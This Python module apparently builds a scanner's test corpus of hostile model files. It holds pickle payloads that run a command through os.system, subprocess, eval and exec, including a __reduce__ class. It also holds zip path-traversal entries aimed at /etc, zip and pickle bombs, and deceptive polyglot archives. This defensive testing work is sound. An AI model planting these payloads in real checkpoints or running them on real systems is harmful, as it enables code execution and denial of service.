"""Files that try to execute or to deceive. Every one that carries code carries a canary's command."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable

from .assemble import (
    Checkpoint,
    Part,
    call,
    dict_of,
    gguf_of,
    integer,
    name,
    onnx_of,
    onnx_tensor,
    pickled,
    proto,
    safetensors_of,
    small,
    tensor,
    unicode,
    with_payload,
    zip_of,
)  # fmt: skip
from .corpus import case
from .corpus_good import saved, sharded, state


def _code(title: str, payload: Callable[[str], bytes]) -> None:
    case(f"hostile: {title}", "hostile", "dangerous-global", format="torch-zip")(lambda command: with_payload(payload(command)))


_code("os.system", lambda c: call("os.system", unicode(c)))
_code("posix.system", lambda c: call("posix.system", unicode(c)))
_code("subprocess.Popen", lambda c: call("subprocess.Popen", b"(" + unicode("/bin/sh") + unicode("-c") + unicode(c) + b"l"))
_code("eval", lambda c: call("builtins.eval", unicode(f"__import__('os').system({c!r})")))
_code("python 2 eval", lambda c: call("__builtin__.eval", unicode(f"__import__('os').system({c!r})")))
_code("exec by NEWOBJ", lambda c: name("builtins.exec") + b"(" + unicode(f"import os; os.system({c!r})") + b"t\x81")
_code("by INST", lambda c: b"(" + unicode(c) + b"ios\nsystem\n")
_code("by OBJ", lambda c: b"(" + name("os.system") + unicode(c) + b"o")
_code("by STACK_GLOBAL", lambda c: unicode("os") + unicode("system") + b"\x93(" + unicode(c) + b"tR")
_code(
    "name put together from the memo",
    lambda c: unicode("os") + b"q\x64" + unicode("system") + b"q\x65" + b"00h\x64h\x65\x93(" + unicode(c) + b"tR",
)
_code("runpy", lambda c: call("runpy._run_code", unicode(f"import os; os.system({c!r})"), b"}"))
_code("torch.hub.load", lambda c: call("torch.hub.load", unicode("evil/repo"), unicode("model")))
_code("torch's own pickle loader", lambda c: call("torch.storage._load_from_bytes", b"C\x04abcd"))
_code("through a dotted name", lambda c: unicode("torch.nn") + unicode("modules.__builtins__.eval") + b"\x93(" + unicode(c) + b"tR")
_code("importlib", lambda c: call("importlib.import_module", unicode("antigravity")))
_code("operator.attrgetter", lambda c: call("operator.attrgetter", unicode("system")))
_code("numpy's runstring", lambda c: call("numpy.testing._private.utils.runstring", unicode(f"import os; os.system({c!r})"), b"}"))
_code("pip", lambda c: call("pip._internal.cli.main.main", b"(" + unicode("download") + unicode("x") + b"l"))
_code("in a key's place", lambda c: b"}" + call("os.system", unicode(c)) + b"Ns")
_code("popped and never used", lambda c: call("os.system", unicode(c)) + b"0N")
_code("after harmless calls", lambda c: name("collections.OrderedDict") + b")R0" + call("os.popen", unicode(c)))
_code(
    "in BUILD's state", lambda c: name("collections.OrderedDict") + b")R" + dict_of([(unicode("x"), call("os.system", unicode(c)))]) + b"b"
)


_code("after a step that makes no sense", lambda c: integer(1) + integer(2) + b"a0" + call("os.system", unicode(c)))


class _Evil:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        import os

        return os.system, (self.command,)


case("hostile: as torch.save writes it", "hostile", "dangerous-global")(lambda c: saved({"model": state(), "x": _Evil(c)}))
case("hostile: protocol 4 by torch.save", "hostile", "dangerous-global")(
    lambda c: saved({"model": state(), "x": _Evil(c)}, pickle_protocol=4)
)
case("hostile: legacy", "hostile", "dangerous-global", format="torch-legacy")(
    lambda c: saved({"x": _Evil(c)}, _use_new_zipfile_serialization=False)
)
case("hostile: a bare pickle", "hostile", "dangerous-global")(lambda c: pickle.dumps(_Evil(c)))
case("hostile: a text pickle", "hostile", "dangerous-global")(lambda c: b"cos\nsystem\n(S'" + c.encode() + b"'\ntR.")
case("hostile: a text pickle by instance", "hostile", "dangerous-global")(lambda c: b"(S'" + c.encode() + b"'\nios\nsystem\n.")
case("hostile: a pickle cut off after its call", "hostile", "dangerous-global")(lambda c: pickle.dumps(_Evil(c))[:-1])


def _legacy_streams(command: str, which: int) -> bytes:
    """A legacy file whose stream number *which* carries the call: 2 is the system info, 4 the list of storages."""
    good = saved(state(), _use_new_zipfile_serialization=False)
    streams, at = [], 0
    for _ in range(5):
        file = io.BytesIO(good[at:])
        import pickletools

        for _opcode, _arg, _pos in pickletools.genops(file):
            pass
        streams.append(good[at : at + file.tell()])
        at += file.tell()
    streams[which] = pickled(call("os.system", unicode(command)))
    return b"".join(streams) + good[at:]


case("hostile: legacy, in the system info", "hostile", "dangerous-global")(lambda c: _legacy_streams(c, 2))
case("hostile: legacy, in the storage keys", "hostile", "dangerous-global")(lambda c: _legacy_streams(c, 4))
case("hostile: legacy, instead of the magic number", "hostile", "dangerous-global")(lambda c: _legacy_streams(c, 0))
case("hostile: registry of extensions", "hostile", "extension-registry")(lambda _: with_payload(b"\x82\x01(K\x01tR"))


# deceit: two readers would see two files
def _evil_pickle(command: str) -> bytes:
    return pickled(call("os.system", unicode(command)))


@case("hostile: two data.pkl, the second clean", "hostile", "duplicate-data-pkl")
def _(command: str) -> bytes:
    good = small().parts()
    return zip_of([Part("archive/data.pkl", _evil_pickle(command)), *good])


@case("hostile: two data.pkl, the first clean", "hostile", "duplicate-data-pkl")
def _(command: str) -> bytes:
    return zip_of([*small().parts(), Part("archive/data.pkl", _evil_pickle(command))])


@case("hostile: DATA.PKL beside data.pkl", "hostile", "duplicate-data-pkl")
def _(command: str) -> bytes:
    return zip_of([Part("archive/DATA.PKL", _evil_pickle(command)), *small().parts()])


@case("hostile: two storages of one name", "hostile", "duplicate-entry")
def _(_: str) -> bytes:
    return zip_of([*small().parts(), Part("archive/data/0", bytes(48))])


@case("hostile: a second folder with a data.pkl", "hostile", "second-directory")
def _(command: str) -> bytes:
    return zip_of([*small().parts(), Part("zother/data.pkl", _evil_pickle(command))])


@case("hostile: the first entry decides the folder", "hostile", "second-directory")
def _(command: str) -> bytes:
    return zip_of([Part("evil/data.pkl", _evil_pickle(command)), *small().parts()])


@case("hostile: a pickle that does not belong", "hostile", "foreign-pickle")
def _(command: str) -> bytes:
    return zip_of([*small().parts(), Part("archive/data/evil.pkl", _evil_pickle(command))])


@case("hostile: another name before the data", "hostile", "header-mismatch")
def _(_: str) -> bytes:
    parts = small().parts()
    parts[0].local_name = "archive/code.pkl"
    return zip_of(parts)


@case("hostile: another checksum before the data", "hostile", "header-mismatch")
def _(_: str) -> bytes:
    parts = small().parts()
    parts[2].local_crc = 1
    return zip_of(parts)


@case("hostile: another method before the data", "hostile", "header-mismatch")
def _(_: str) -> bytes:
    parts = small().parts()
    parts[2].local_method = 8
    return zip_of(parts)


@case("hostile: a pickle marked as a folder", "hostile", "header-mismatch")
def _(_: str) -> bytes:
    # torch's reader then hands its unpickler memory that was never filled; found by fuzzing against torch.
    data = bytearray(small().build())
    at = data.index(b"PK\x01\x02")
    data[at + 38] = 0x10
    return bytes(data)


@case("hostile: two end records", "hostile", "header-mismatch")
def _(_: str) -> bytes:
    # The zip64 record points to the same directory through another number: whoever reads only the short one sees another place.
    honest = zip_of(small().parts(), zip64_start=0)
    start = struct.unpack("<I", honest[-6:-2])[0]
    lying = bytearray(zip_of(small().parts(), zip64_start=start))
    lying[-6:-2] = struct.pack("<I", start - 46)
    return bytes(lying)


@case("hostile: a directory in the comment", "hostile", "polyglot")
def _(_: str) -> bytes:
    return zip_of(small().parts(), comment=b"PK\x05\x06" + bytes(18))


@case("hostile: legacy from the front, zip from the back", "hostile", "polyglot", format="torch-legacy")
def _(_: str) -> bytes:
    return saved(state(), _use_new_zipfile_serialization=False) + zip_of(small().parts())


@case("hostile: safetensors from the front, zip from the back", "hostile", "polyglot", format="safetensors")
def _(_: str) -> bytes:
    inner = zip_of(small().parts())
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(inner)], "data_offsets": [0, len(inner)]}}).encode()
    return safetensors_of(header, inner)


@case("hostile: entries that share bytes", "hostile", "overlapping-entries")
def _(_: str) -> bytes:
    parts = small().parts()
    kernel = len(zip_of(parts[:2])) - 22 - sum(46 + len(p.name) for p in parts[:2])
    return zip_of([*parts, Part("archive/data/0", parts[2].data, header_offset=kernel)])


def _escaping(title: str, entry: str) -> None:
    case(f"hostile: {title}", "hostile", "escaping-name")(lambda _: zip_of([*small().parts(), Part(entry, b"x")]))


_escaping("a name with ..", "archive/data/../../../etc/cron.d/x")
_escaping("an absolute name", "/etc/passwd")
_escaping("a name with backslashes", "archive\\..\\..\\x")
_escaping("a name with a drive", "C:/x")

case("hostile: one name twice in a dict", "hostile", "duplicate-name")(
    lambda _: Checkpoint(
        dict_of([(unicode("w"), tensor("0", [4])), (unicode("w"), tensor("1", [4]))]), {"0": bytes(16), "1": bytes(16)}
    ).build()
)
case("hostile: one name twice in safetensors", "hostile", "duplicate-name")(
    lambda _: safetensors_of(
        b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"w":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', bytes(8)
    )
)
case("hostile: safetensors whose tensors overlap", "hostile", "overlapping-entries")(
    lambda _: safetensors_of(
        b'{"v":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}', bytes(12)
    )
)
case("hostile: a shard outside the folder", "hostile", "escaping-name", file="model.safetensors.index.json")(
    lambda _: {**sharded(), "model.safetensors.index.json": b'{"weight_map": {"w": "../../secret.safetensors"}}'}
)
case("hostile: onnx data outside the folder", "hostile", "escaping-name", file="model.onnx")(
    lambda _: onnx_of(onnx_tensor("w", [4], None, proto(13, proto(1, b"location") + proto(2, b"../../etc/passwd")), proto(14, 1)))
)


# bombs
case("hostile: zip bomb in a storage", "hostile", "zip-bomb")(
    lambda _: zip_of([*small().parts(), Part("archive/data/9", bytes(200_000_000), method=8)])
)
case("hostile: zip bomb in the pickle", "hostile", "zip-bomb")(
    lambda _: zip_of([Part("archive/data.pkl", b"\x80\x02" + bytes(90_000_000), method=8), *small().parts()[1:]])
)
case("hostile: a pickle that unpacks to more than it claims", "hostile", "zip-bomb")(
    lambda _: zip_of([Part("archive/data.pkl", bytes(50_000_000), method=8, claimed_size=1000, crc=0), *small().parts()[1:]])
)
case("hostile: a view of a terabyte", "hostile", "expanded-view")(
    lambda _: Checkpoint(dict_of([(unicode("w"), tensor("0", [1 << 20, 1 << 20], numel=1, stride=[0, 0]))]), {"0": bytes(4)}).build()
)
case("hostile: marks a thousand deep", "hostile", "pickle-bomb")(lambda _: with_payload(b"(" * 10_000 + b"N" + b"t" * 10_000))
case("hostile: tuples a hundred thousand deep", "hostile", "pickle-bomb")(lambda _: with_payload(b"N" + b"\x85" * 100_000))


def _laughs() -> bytes:
    """Forty dicts, each holding the one before four times: a tree of 4**40 leaves in two kilobytes."""
    body = b"}q\x01"
    for level in range(1, 40):
        body += b"0}q" + bytes([level + 1]) + b"(" + b"".join(unicode(key) + b"h" + bytes([level]) for key in "abcd") + b"u"
    return body


case("hostile: a dict that holds a billion others", "hostile", "pickle-bomb")(lambda _: with_payload(_laughs()))
case("hostile: a dict copied twenty thousand times", "hostile", "pickle-bomb")(
    lambda _: with_payload(
        name("collections.OrderedDict") + b"q\x00}(" + b"NN" * 200_000 + b"u\x85q\x01" + b"0" + b"h\x00h\x01R0" * 20_000 + b"0N"
    )
)
case("hostile: a dict that holds itself", "hostile", "pickle-bomb")(
    lambda _: with_payload(b"}q\x01(" + unicode("a") + b"h\x01" + unicode("b") + b"h\x01u")
)
case("hostile: three thousand globals", "hostile", "pickle-bomb")(
    lambda _: with_payload(b"".join(name(f"m.n{i}") + b"0" for i in range(3000)) + b"N")
)
case("hostile: safetensors header of 2**60", "hostile", "header-bomb")(
    lambda _: safetensors_of(b'{"data_offsets":1}' + b" " * 90, b"", length=2**60)
)
case("hostile: safetensors of a million objects", "hostile", "header-bomb")(
    lambda _: safetensors_of(b'{"a":[' + b"{}," * 1_000_000 + b"{}]}", b"")
)
case("hostile: gguf of 2**50 tensors", "hostile", "header-bomb")(lambda _: gguf_of([], b"", count=2**50))
case("suspect: keys made to collide", "suspect", "no-tensors")(
    lambda _: Checkpoint(b"}(" + b"".join(integer(i * (2**61 - 1)) + b"N" for i in range(60_000)) + b"u", {}).build()
)
case("broken: json a hundred thousand deep", "broken", "header-broken")(
    lambda _: safetensors_of(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"")
)
case("broken: a text of four gigabytes claimed", "broken", "pickle-broken")(lambda _: with_payload(b"X\xff\xff\xff\xff"))
case("broken: a long number of two gigabytes claimed", "broken", "pickle-broken")(lambda _: with_payload(b"\x8b\xff\xff\xff\x7f"))


def as_zipfile_sees(data: bytes) -> list[str]:
    """What Python's zipfile lists, to show in a test that it sees another file than torch does."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()
